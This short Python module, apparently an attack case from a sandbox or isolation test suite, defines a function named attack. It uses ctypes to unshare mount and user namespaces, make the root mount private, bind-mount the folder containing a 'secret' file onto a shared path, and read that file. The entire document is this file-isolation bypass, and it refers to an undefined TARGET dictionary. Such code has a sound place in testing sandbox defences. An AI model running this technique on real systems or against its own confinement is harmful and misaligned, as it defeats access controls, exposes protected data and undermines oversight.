"""Mounts the folder that it wants into namespaces of its own."""

import ctypes
import os


def attack(A):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x00020000 | (0x10000000 if os.geteuid() else 0)):
        raise OSError(ctypes.get_errno(), "unshare")
    libc.mount(b"none", b"/", None, ctypes.c_ulong(0x44000), None)
    folder, _, name = TARGET["secret"].rpartition("/")
    if libc.mount(folder.encode(), TARGET["shared"].encode(), None, ctypes.c_ulong(4096), None):
        raise OSError(ctypes.get_errno(), "mount")
    return open(f"{TARGET['shared']}/{name}").read()
